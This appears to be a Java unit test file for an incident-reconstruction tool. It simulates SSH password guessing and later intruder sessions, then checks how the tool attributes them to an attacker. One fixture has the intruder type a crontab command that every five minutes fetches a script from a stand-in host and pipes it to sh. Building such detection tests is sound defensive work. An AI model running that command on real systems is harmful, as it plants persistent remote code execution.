package dwell.incident;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** An account whose password was found by one address and is used from another days later. */
class TakenAccountTest {
  private static final String FINDER = "203.0.113.7";
  private static final String LATER = "192.0.2.66";

  private static Story found() {
    Story story = ReconstructionTest.office();
    story.fails("data1", FINDER, "5 20:00:00", 6, "root", "admin", "test", "erin", "guest", "dana");
    story.ssh("data1", "dana", FINDER, "5 20:10:00").until("5 20:10:01");
    return story;
  }

  @Test
  void byNightFromAStrangeNetworkIsTheActors() {
    Story story = found();
    story.ssh("data1", "dana", LATER, "7 03:00:00").until("7 03:30:00").types("7 03:01:00", "ls");
    Incident incident = story.incident();
    assertThat(incident.sessions()).hasSize(2);
    assertThat(incident.actors().getFirst().accounts())
        .extracting(Incident.ActorAccount::means)
        .containsExactly("guessed");
  }

  @Test
  void byDayFromAStrangeNetworkMayBeItsOwner() {
    Story story = found();
    story.ssh("data1", "dana", LATER, "7 10:00:00").until("7 10:30:00").types("7 10:01:00", "ls");
    assertThat(story.incident().sessions()).hasSize(1);
  }

  @Test
  void withoutTheFinderTheSameNightIsNothing() {
    Story story = ReconstructionTest.office();
    story.ssh("data1", "dana", LATER, "7 03:00:00").until("7 03:30:00").types("7 03:01:00", "ls");
    ReconstructionTest.nothing(story.incident());
  }

  /** Weeks of guessing, one try an address; one got in and went; days later somebody came. */
  private static Story botnet(String check, String ended) {
    Story story = ReconstructionTest.office();
    for (int i = 1; i <= 40; i++) {
      story.fails("data1", "198.18." + i + ".9", "5 0" + i % 10 + ":10:00", 1, "dana");
    }
    story.ssh("data1", "dana", "198.18.77.9", check).until(ended);
    story
        .ssh("data1", "dana", LATER, "7 03:00:00")
        .until("7 03:30:00")
        .types(
            "7 03:01:00",
            "(crontab -l; echo '*/5 * * * * curl -s http://x.example/u | sh') | crontab -");
    return story;
  }

  @Test
  void theLoginThatFoundThePasswordIsTheActors() {
    Incident incident = botnet("6 03:00:00", "6 03:00:01").incident();
    assertThat(incident.sessions()).hasSize(2);
    assertThat(incident.actors().getFirst().accounts())
        .extracting(Incident.ActorAccount::means)
        .containsExactly("guessed");
  }

  @Test
  void whoStaysBeforeTheActorCameMayBeTheOwner() {
    assertThat(botnet("6 03:00:00", "6 03:20:00").incident().sessions()).hasSize(1);
  }
}
